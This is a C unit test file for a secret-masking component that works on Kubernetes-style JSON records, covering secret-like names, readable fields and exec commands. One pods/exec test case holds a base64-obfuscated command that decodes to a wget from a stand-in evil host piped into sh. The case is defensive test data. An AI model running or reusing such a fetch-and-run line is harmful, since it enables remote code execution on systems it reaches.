/* SPDX-License-Identifier: Apache-2.0 */
/* What a name and a value say together: which are secrets, and what stays to be read. */
#include "support/run_tests.h"
#include "unit/mask_cases.h"

/* ---- names and values ---- */

struct pair_case {
	enum verdict verdict;
	const char *name, *value;
};

static void check_pair(const struct pair_case *c)
{
	_cleanup_(buf_free) struct buf in = BUF_INIT(1 << 16), out = BUF_INIT(1 << 20);
	struct mask_result r;
	struct json_doc d;

	buf_printf(&in, "{\"env\":[{\"name\":\"%s\",\"value\":\"%s\"}],\"data\":{\"%s\":\"%s\"}}",
		c->name, c->value, c->name, c->value);
	arena_reset(arena);
	read_doc(buf_span(&in), arena, &d);
	mask_object(masker, &d, JSON_ROOT, target_of(""), arena, &out, &r);
	ck_assert_ptr_nonnull(buf_str(&out));
	if (c->verdict == SAME)
		ck_assert_str_eq(buf_str(&out), buf_str(&in));
	else
		expect_gone(buf_span(&out), c->value, buf_str(&in));
}

START_TEST(mask_readable__names_and_values)
{
	static const struct pair_case cases[] = {
		/* whatever the value looks like */
		{GONE, "MAILPW", "hydrangea"},
		{GONE, "APP_PSWD", "hydrangea"},
		{GONE, "app_passwrd", "hydrangea"},
		{GONE, "USER_PSW", "hydrangea"},
		{GONE, "LOZINKA", "hydrangea"},
		{GONE, "JELSZO", "hydrangea"},
		{GONE, "CLAVE", "hydrangea"},
		{GONE, "SENHA_DB", "hydrangea"},
		{GONE, "DB_PASSE", "hydrangea"},
		{GONE, "KODEORD", "hydrangea"},
		{GONE, "пароль", "hydrangea"},
		{GONE, "口令", "hydrangea"},
		{GONE, "MISTRAL_KEY", "hydrangea"},
		{GONE, "FLASK_KEY", "hydrangea"},
		{GONE, "MEMCACHED_AUTH", "hydrangea"},
		{GONE, "PASSKEY", "hydrangea"},
		{GONE, "SEED_PHRASE", "one two three four"},
		{GONE, "SECURITY_CODE", "8812345"},
		{GONE, "SNMP_COMMUNITY_STRING", "hydrangea"},
		/* when it looks like a key or a password */
		{GONE, "ACCESS", "Hydrangea77!"},
		{GONE, "MASTER", "Hydrangea77!"},
		{GONE, "BASIC", "Hydrangea77!"},
		{GONE, "S3_SK", "q8Zt3LwP0aVbN5xCkR7y"},
		{GONE, "TRUSTSTORE", "Hydrangea77!"},
		{GONE, "userkey", "q8Zt3LwP0aVbN5xCkR7y"},
		{GONE, "PASSWORD_SALT", "QwErTyUiOpAsDfGhJkLzXc"},
		{SAME, "ACCESS", "read-only"},
		{SAME, "MASTER", "master-0.master.svc"},
		{SAME, "BASIC", "v1.2.3-basic-auth"},
		/* of a secret, but none */
		{SAME, "TOKEN_LIFETIME", "7200"},
		{SAME, "TOKENS_PER_FILL", "20"},
		{SAME, "SECRETS_ENGINE", "kv-v2"},
		{SAME, "COOKIE_HTTPONLY", "1"},
		{SAME, "SESSION_COOKIE_DOMAIN", "shop.example.com"},
		{SAME, "API_KEY_HEADER", "X-Shop-Key"},
		{SAME, "BASIC_AUTH_REALM", "Shop"},
		{SAME, "SECRETARY", "desk-4"},
		{SAME, "TOKENIZER", "sentencepiece"},
		{SAME, "TOKENBUCKET", "50rps"},
		{SAME, "PASSWORDLESS_LOGIN", "maybe"},
		{SAME, "checksum/secrets",
			"1f0c8e6a5b7d4c3e2f1a0b9c8d7e6f504132a3b4c5d6e7f8091a2b3c4d5e6f70"},
		{SAME, "PASSWORD", "disabled"},
		{SAME, "KUBECONFIG", "/etc/kubernetes/admin.conf"},
		{SAME, "DB_PASSWORD", "/run/secrets/db-password"},
		{GONE, "DB_PASSWORD", "/q8Zt3LwP0aVbN5xCkR7y"},
		/* keys that find things */
		{SAME, "SORT_KEY", "created_at_2026_q1x"},
		{SAME, "ROUTING_KEY", "orders.eu-1.created.v2"},
		{SAME, "BUILD_KEY", "SHOP-NIGHTLY-77-JOB2-CD"},
		{SAME, "topologyKey", "topology.kubernetes.io/rack-of-servers-17"},
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		check_pair(&cases[i]);
}
END_TEST

/* ---- what stays ---- */

START_TEST(mask_readable__stays)
{
	static const struct mask_case cases[] = {
		{SAME, "",
			"{\"metadata\":{\"annotations\":{\"nginx.ingress.kubernetes.io/"
			"auth-secret\":"
			"\"shop/htpasswd-users\",\"nginx.ingress.kubernetes.io/"
			"session-cookie-samesite\":\"Strict\","
			"\"nginx.ingress.kubernetes.io/session-cookie-max-age\":\"86400\"}}}"},
		{SAME, "", "{\"token_bucket\":{\"max_tokens\":9,\"fill_interval\":\"10s\"}}"},
		{SAME, "",
			"{\"kind\":\"SealedSecret\",\"spec\":{\"encryptedData\":{\"password\":"
			"\"AgCmadeUpCiphertext0123456789\"}}}"},
		{SAME, "",
			"{\"validations\":[{\"message\":\"password: must come from a Secret\"}]}"},
		{SAME, "secrets",
			"{\"kind\":\"Status\",\"message\":\"Secret \\\"db\\\" is invalid: data: "
			"Forbidden: field is immutable when `immutable` is set\"}"},
		{SAME, "secrets",
			"{\"kind\":\"Secret\",\"metadata\":{\"annotations\":{\"cert-manager.io/"
			"common-name\":\"shop.example.com\"}}}"},
		{SAME, "",
			"{\"user\":{\"extra\":{\"arn\":[\"arn:aws:sts::111122223333:assumed-role/"
			"ops/"
			"kim\"],\"sessionName\":[\"kim\"],\"sigs.k8s.io/aws-iam-authenticator/"
			"principalId\":[\"AROAMADEUPMADEUP:kim\"],\"oid\":[\"0b1c2d3e-0000-4000-"
			"8000-"
			"000000000001\"],\"principalid\":[\"github_user://1\"]}}}"},
		{GONE, "", "{\"user\":{\"extra\":{\"assertion\":[\"" S "\"]}}}"},
		{GONE, "", "{\"user\":{\"extra\":{\"example.com/ticket\":[\"" S "\"]}}}"},
	};

	CHECK_CASES(cases);
}
END_TEST

/* A name that the configuration keeps is kept among the extras of a user, too. */
START_TEST(mask_readable__extra_that_is_kept)
{
	static const struct mask_case cases[] = {
		{SAME, "", "{\"user\":{\"extra\":{\"example.com/desk\":[\"" S "\"]}}}"},
		{GONE, "", "{\"user\":{\"extra\":{\"example.com/ticket\":[\"" S "\"]}}}"},
		{GONE, "", "{\"user\":{\"extra\":{\"example.com/desk\":[\"" JWT "\"]}}}"},
	};
	struct masker *usual = masker;

	masker = new_masker(MASK_TEST_KEY, "keep: [example.com/desk]\n");
	CHECK_CASES(cases);
	masker_free(masker);
	masker = usual;
}
END_TEST

START_TEST(mask_readable__commands)
{
	static const struct mask_case cases[] = {
		{SAME, "pods/exec",
			"{\"command\":[\"kubectl\",\"delete\",\"pod\",\"shop-6c9f8d7b54-q2x7z\"]}"},
		{SAME, "pods/exec", "{\"command\":[\"date\",\"+%Y%m%dT%H:%M\"]}"},
		{SAME, "pods/exec", "{\"command\":[\"kafka-topics\",\"--topic\",\"ParcelsV3\"]}"},
		{SAME, "pods/exec",
			"{\"command\":[\"sh\",\"-c\",\"echo "
			"d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3ggLU8gLXwgc2g= | base64 -d | sh\"]}"},
		{GONE, "pods/exec", "{\"command\":[\"sh\",\"-c\",\"echo " B64 " | base64 -d\"]}"},
		{GONE, "pods/exec", "{\"command\":[\"vault\",\"login\",\"" S "\"]}"},
		{GONE, "pods/exec", "{\"command\":[\"redis-cli\",\"AUTH\",\"" S "\"]}"},
		{GONE, "pods/exec", "{\"command\":[\"useradd\",\"-p\",\"" S "\",\"kim\"]}"},
	};

	CHECK_CASES(cases);
}
END_TEST

int main(void)
{
	TCase *t = tcase_create("mask_readable");

	tcase_add_checked_fixture(t, setup, teardown);
	tcase_set_timeout(t, 60);
	tcase_add_test(t, mask_readable__names_and_values);
	tcase_add_test(t, mask_readable__stays);
	tcase_add_test(t, mask_readable__extra_that_is_kept);
	tcase_add_test(t, mask_readable__commands);
	return run_tests(t);
}
